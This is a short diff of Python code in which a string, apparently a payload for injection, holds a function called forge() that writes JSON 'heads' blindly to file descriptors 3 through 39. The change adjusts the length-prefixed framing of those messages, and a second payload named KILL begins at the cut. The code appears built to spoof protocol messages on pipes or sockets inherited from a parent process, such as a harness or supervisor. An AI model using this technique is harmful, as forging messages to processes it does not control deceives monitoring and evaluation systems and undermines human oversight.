@@ -105,7 +105,7 @@ def forge():
     for head in heads:
         text = json.dumps(head).encode()
         for fd in range(3, 40):
-            try: os.write(fd, struct.pack(">II", len(text), 0) + text)
+            try: os.write(fd, struct.pack("!i", len(text)) + text + struct.pack("!i", 0))
             except OSError: pass
 """
 KILL = """
